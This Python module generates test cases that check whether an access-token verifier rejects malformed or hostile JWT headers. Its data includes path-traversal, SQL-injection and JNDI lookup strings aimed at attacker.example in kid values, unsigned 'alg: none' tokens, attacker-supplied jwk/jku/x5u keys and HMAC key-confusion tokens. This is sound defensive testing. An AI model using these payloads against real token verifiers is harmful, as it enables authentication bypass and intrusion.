"""Owns the cases of a token's header: `typ`, `crit`, `kid`, `alg`, and keys that it brings along (RFC 8725, RFC 9068 section 4)."""

import hashlib
import hmac
import json

from ..keys import ATTACKER_ES, ED, ES, RS, b64, published
from ..tokens import WITHOUT, bearer, client, header, invalid, message, passes, refused, token, user
from ..world import ALICE, NOW, ROBOT, SHOP


def _typ() -> list[dict]:
    good = ["at+jwt", "AT+JWT", "At+Jwt", "application/at+jwt", "APPLICATION/AT+JWT", "Application/at+jwt"]
    bad = [
        "JWT",
        "jwt",
        "JOSE",
        "id_token",
        "id_token+jwt",
        "logout+jwt",
        "client-authentication+jwt",
        "token-introspection+jwt",
        "dpop+jwt",
        "secevent+jwt",
        "at+jwt2",
        "at",
        "+jwt",
        "at+jwt; charset=utf-8",
        " at+jwt",
        "at+jwt ",
        "at jwt",
        "at%2Bjwt",
        "text/at+jwt",
        "application/",
        "application/jwt",
        "application/application/at+jwt",
        "/at+jwt",
        "applicatio\u00f1/at+jwt",
        "a\u0442+jwt",
        "",
        None,
        1,
        True,
        ["at+jwt"],
        {"typ": "at+jwt"},
    ]
    return [
        *(
            passes(f"typ: {typ}", "A media type is compared without case, and may leave out `application/`.", head=header(typ=typ))
            for typ in good
        ),
        *(invalid(f"typ: {json.dumps(typ)}", "It is no access token.", head=header(typ=typ)) for typ in bad),
        invalid("typ: none", "An access token says that it is one.", head=header(typ=WITHOUT)),
        *(invalid(f"typ: JWT, signed by {key.alg}", "It is no access token.", head=header(key, typ="JWT"), key=key) for key in (ED, RS)),
    ]


def _typ_jwt() -> list[dict]:
    on = {"token_typ_jwt": True}
    jwt = header(typ="JWT")
    orders = "/corpus.v1.Calls/Orders"
    return [
        *(
            passes(f"typ JWT is allowed: {typ}", "It is compared as a media type.", head=header(typ=typ), **on)
            for typ in ("JWT", "jwt", "Jwt", "application/jwt", "application/JWT", "at+jwt", "application/at+jwt")
        ),
        passes("typ JWT is allowed: an audience in an array", "It is for one alone.", user(aud=["stock"]), head=jwt, **on),
        passes(
            "typ JWT is allowed: a client's own token",
            "It is for the audience alone, which is not its `client_id`.",
            client(),
            head=jwt,
            **on,
        ),
        passes(
            "typ JWT is allowed: at+jwt for several audiences", "It says that it is an access token.", user(aud=["stock", "orders"]), **on
        ),
        invalid("typ JWT is allowed: several audiences", "It must be for one alone.", user(aud=["stock", "orders"]), head=jwt, **on),
        invalid("typ JWT is allowed: another audience", "It must be for the verifier's own.", user(aud="orders"), head=jwt, **on),
        invalid(
            "typ JWT is allowed: the audience of the rule",
            "It must be for the verifier's own.",
            user(aud="orders"),
            head=jwt,
            method=orders,
            audience="orders",
            **on,
        ),
        invalid(
            "typ JWT is allowed: the audience is its client",
            "An ID token is for its client (OpenID Connect Core section 2).",
            user(client_id="stock"),
            head=jwt,
            **on,
        ),
        invalid(
            "typ JWT is allowed: the audience is its client, by its id",
            "An ID token is for its client.",
            user(aud=SHOP, client_id=SHOP),
            head=jwt,
            audience=SHOP,
            **on,
        )
        | {"audience": SHOP},
        passes("at+jwt: the audience is its client", "It says that it is an access token.", user(aud=SHOP, client_id=SHOP), **on)
        | {"audience": SHOP},
        invalid(
            "typ JWT is allowed: a client's own token for itself",
            "The audience is its `client_id`.",
            client(aud=ROBOT),
            head=jwt,
            audience=ROBOT,
            **on,
        )
        | {"audience": ROBOT},
        invalid(
            "typ JWT is allowed: an ID token",
            "It has none of what an access token has.",
            {"iss": user()["iss"], "sub": ALICE, "aud": "stock", "exp": NOW + 900, "iat": NOW, "nonce": "n", "azp": SHOP},
            head=jwt,
            **on,
        ),
        *(
            invalid(f"typ JWT is allowed: {json.dumps(typ)}", "It is neither of the two.", head=header(typ=typ), **on)
            for typ in ("", "id_token", "logout+jwt", "JWT2", " JWT", None, ["JWT"])
        ),
        invalid("typ JWT is allowed: none", "`typ` must be there.", head=header(typ=WITHOUT), **on),
        refused("typ JWT is allowed: expired", "It was good.", "TOKEN_EXPIRED", user(iat=NOW - 900, exp=NOW - 5), head=jwt, **on),
        invalid(
            "typ JWT is allowed: expired, and for several",
            "`typ` is looked at first.",
            user(iat=NOW - 900, exp=NOW - 5, aud=["stock", "orders"]),
            head=jwt,
            **on,
        ),
    ]


def _crit() -> list[dict]:
    unencoded = f"{b64(json.dumps(header(crit=['b64'], b64=False)).encode())}.{json.dumps(user())}"
    return [
        *(
            invalid(f"crit: {json.dumps(crit)}", "No extension is understood, whatever stands there.", head=header(crit=crit))
            for crit in (["exp"], ["b64"], ["alg"], ["http://example.com/x"], [], "exp", None, {}, 1, False)
        ),
        invalid("crit: a member that is there", "It is critical, and not understood.", head=header(crit=["x"], x=1)),
        invalid("crit: b64 is false", "The payload is in base64url nevertheless.", head=header(crit=["b64"], b64=False)),
        invalid(
            "crit: b64 is false, and the payload is not encoded",
            "RFC 7797 is not understood.",
            authorization=bearer(f"{unencoded}.{b64(ES.sign(unencoded.encode()))}"),
        ),
        invalid("crit: b64 is true", "It is critical, and not understood.", head=header(crit=["b64"], b64=True)),
        passes(
            "header with members that nobody knows",
            "They are passed over (RFC 7515 section 4).",
            head=header(x=1, org={"name": "a", "of": [1, None]}),
        ),
    ]


def _kid() -> list[dict]:
    names = [
        ("empty", ""),
        ("a space", " "),
        ("a star", "*"),
        ("a path", "../../../etc/passwd"),
        ("a device", "/dev/null"),
        ("SQL", "' OR '1'='1"),
        ("a NUL", "\0"),
        ("a percent sign", "%"),
        ("a key", "\U0001f511"),
        ("an address", "https://attacker.example/k"),
        ("a template", "${jndi:ldap://attacker.example/a}"),
        ("256 bytes", "k" * 256),
        ("256 bytes of 128 letters", "é" * 128),
        ("5,000 bytes", "k" * 5000),
        ("upper case", ES.kid.upper()),
        ("lower case", ES.kid.lower()),
        ("with a space behind", ES.kid + " "),
        ("with a NUL behind", ES.kid + "\0"),
        ("cut", ES.kid[:-1]),
        ("unknown", ATTACKER_ES.kid),
        ("__proto__", "__proto__"),
        ("constructor", "constructor"),
        ("a number", 0),
        ("null", None),
        ("true", True),
        ("an array", [ES.kid]),
        ("an object", {"kid": ES.kid}),
    ]
    return [
        *(invalid(f"kid: {name}", "The issuer has no such key.", head=header(kid=kid)) for name, kid in names),
        invalid("kid: none", "A token names its key.", head=header(kid=WITHOUT)),
        *(invalid(f"kid: none, signed by {key.alg}", "A token names its key.", head=header(key, kid=WITHOUT), key=key) for key in (ED, RS)),
    ]


def _alg() -> list[dict]:
    names = [
        "ES256",
        "ES384",
        "ES512",
        "ES256K",
        "EdDSA",
        "Ed25519",
        "Ed448",
        "RS256",
        "RS384",
        "RS512",
        "PS256",
        "PS384",
        "HS256",
        "HS384",
        "HS512",
        "dir",
        "RSA-OAEP",
        "ECDH-ES",
        "ES256 ",
        " ES256",
        "es256",
        "eddsa",
        "rs256",
        "SHA256withECDSA",
    ]
    odd = [None, 0, True, ["ES256"], {"alg": "ES256"}, ""]
    return [
        *(
            invalid(f"alg: {name}, signed by {key.alg}", "The key is for another algorithm.", head=header(key, alg=name), key=key)
            for key in (ES, ED, RS)
            for name in names
            if name != key.alg
        ),
        *(invalid(f"alg: {json.dumps(name)}, signed by ES256", "It is no algorithm.", head=header(alg=name)) for name in odd),
        *(
            invalid(f"alg: none at all, signed by {key.alg}", "The algorithm must be said.", head=header(key, alg=WITHOUT), key=key)
            for key in (ES, ED, RS)
        ),
    ]


def _none() -> list[dict]:
    found = []
    genuine = token().rpartition(".")[2]
    for name in ("none", "None", "NONE", "nOnE", "none ", " none", "null", "no\u0578e"):
        text = message(header(alg=name), user())
        for how, value in [
            ("no signature", f"{text}."),
            ("two parts", text),
            ("a genuine signature", f"{text}.{genuine}"),
            ("a byte", f"{text}.AA"),
        ]:
            found.append(
                invalid(f"alg none: {json.dumps(name)}, {how}", "A token without a signature says nothing.", authorization=bearer(value))
            )
        found.append(
            invalid(f"alg none: {json.dumps(name)}, signed", "Even a signature by the right key does not help.", head=header(alg=name))
        )
    no_kid = message(header(alg="none", kid=WITHOUT), user())
    return [*found, invalid("alg none: without kid", "A token without a signature says nothing.", authorization=bearer(no_kid + "."))]


def _brought() -> list[dict]:
    jwk = published(ATTACKER_ES)
    brought = [
        ("jwk", jwk),
        ("jku", "https://attacker.example/jwks.json"),
        ("x5u", "https://attacker.example/chain.pem"),
        ("x5c", ["MIIB"]),
        ("x5t", "AAAA"),
        ("x5t#S256", "AAAA"),
        ("jwks", {"keys": [jwk]}),
    ]
    found = []
    for member, value in brought:
        for how, kid in [("its own kid", ATTACKER_ES.kid), ("the kid of the issuer's key", ES.kid), ("no kid", WITHOUT)]:
            found.append(
                invalid(
                    f"{member} of the attacker, {how}",
                    "A signature does not bring its own key.",
                    head=header(ATTACKER_ES, kid=kid, **{member: value}),
                    key=ATTACKER_ES,
                )
            )
    secret = {"kty": "oct", "k": b64(b"secret"), "alg": "HS256", "kid": ES.kid}
    return [
        *found,
        invalid(
            "jwk of the attacker, private",
            "A signature does not bring its own key.",
            head=header(ATTACKER_ES, jwk={**jwk, **ATTACKER_ES.secret_member}),
            key=ATTACKER_ES,
        ),
        invalid(
            "jwk that is a secret", "A signature does not bring its own key.", head=header(alg="HS256", jwk=secret), sign=hmac_of("secret")
        ),
        passes(
            "jwk, jku and x5u of the attacker beside a genuine signature",
            "They are not looked at.",
            head=header(jwk=jwk, jku="https://attacker.example/jwks.json", x5u="https://attacker.example/chain.pem"),
        ),
    ]


def hmac_of(secret: str):
    """What signs with HMAC and SHA-256."""
    return lambda text: hmac.digest(secret.encode(), text, hashlib.sha256)


def cases() -> list[dict]:
    """All."""
    return [*_typ(), *_typ_jwt(), *_crit(), *_kid(), *_alg(), *_none(), *_brought()]
